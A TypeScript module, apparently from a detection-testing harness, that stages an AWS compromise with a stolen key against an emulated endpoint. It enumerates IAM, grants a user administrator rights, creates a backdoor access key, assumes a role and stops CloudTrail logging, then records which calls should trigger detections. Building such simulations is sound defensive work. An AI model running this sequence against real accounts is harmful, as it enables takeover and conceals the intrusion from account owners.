import { CloudTrailClient, StartLoggingCommand, StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import type { EventBridgeClient } from '@aws-sdk/client-eventbridge';
import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  DeleteAccessKeyCommand,
  DetachUserPolicyCommand,
  IAMClient,
  ListAttachedUserPoliciesCommand,
  ListRolesCommand,
  ListUsersCommand,
} from '@aws-sdk/client-iam';
import { STSClient } from '@aws-sdk/client-sts';
import type { JsonObject } from '../../../shared/json.ts';
import type { EmbeddedAws } from '../../embedded-aws/start-embedded-aws.ts';
import { createRecorder } from '../../staging/recorder.ts';
import { resolveIdentity } from '../../staging/resolve-identity.ts';
import { ADMINISTRATOR_POLICY, given } from '../operator.ts';
import { stepInto } from '../step-into.ts';
import { watchCalls } from '../watch-calls.ts';
import type { Cast } from './cast.ts';

const FROM = { sourceIPAddress: '203.0.113.66', userAgent: 'aws-cli/2.31.0 md/Botocore#1.40.0 ua/2.1 os/linux' };

/** Detected calls, and so detections, by whom each case will be about. */
export const DETECTIONS = { user: ['AttachUserPolicy', 'CreateAccessKey'], session: ['StopLogging'] } as const;

export type AttackWatch = {
  /** Called just before a record goes to the bus. */
  readonly onRecord: (record: JsonObject) => void;
  /** After a call was answered and before its record goes to the bus: nobody but the attacker knows of it yet. */
  readonly beforeRecord: (eventName: string) => Promise<void>;
};

export type AttackResult = { readonly createdKeyId: string };

/**
 * What people do with a stolen key, by real calls: look around, become an administrator, make a second way in, step
 * into a role, and switch the trail off from there.
 */
export async function attack(
  aws: EmbeddedAws,
  { stolenKey: credentials, user, administrator, roleArn, sessionName, trail, iam: operator }: Cast,
  bus: EventBridgeClient,
  { onRecord, beforeRecord }: AttackWatch,
): Promise<AttackResult> {
  const where = { endpoint: aws.endpoint, region: aws.region };
  const recorder = createRecorder({ bus, onRecord });
  const caller = { ...FROM, userIdentity: await resolveIdentity({ credentials, iam: operator }) };

  const iam = new IAMClient({ ...where, credentials });
  const sts = new STSClient({ ...where, credentials });
  for (const client of [iam, sts]) watchCalls(client, beforeRecord);
  recorder.attach(iam, caller);
  recorder.attach(sts, caller);
  await iam.send(new ListUsersCommand({}));
  await iam.send(new ListRolesCommand({}));
  await iam.send(new ListAttachedUserPoliciesCommand({ UserName: administrator }));
  await iam.send(new AttachUserPolicyCommand({ UserName: user, PolicyArn: ADMINISTRATOR_POLICY }));
  const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName: administrator }));

  const session = await stepInto(sts, operator, { roleArn, sessionName });
  const cloudTrail = new CloudTrailClient({ ...where, credentials: session.credentials });
  watchCalls(cloudTrail, beforeRecord);
  recorder.attach(cloudTrail, { ...FROM, userIdentity: session.userIdentity });
  await cloudTrail.send(new StopLoggingCommand({ Name: trail }));

  return { createdKeyId: given(AccessKey?.AccessKeyId) };
}

/** What the operator puts right after the first act. That the stolen key is still good is overlooked, as it happens. */
export async function cleanUpByHand(
  { iam, cloudTrail, user, administrator, trail }: Cast,
  { createdKeyId }: AttackResult,
): Promise<void> {
  await Promise.all([
    iam.send(new DetachUserPolicyCommand({ UserName: user, PolicyArn: ADMINISTRATOR_POLICY })),
    iam.send(new DeleteAccessKeyCommand({ UserName: administrator, AccessKeyId: createdKeyId })),
    cloudTrail.send(new StartLoggingCommand({ Name: trail })),
  ]);
}
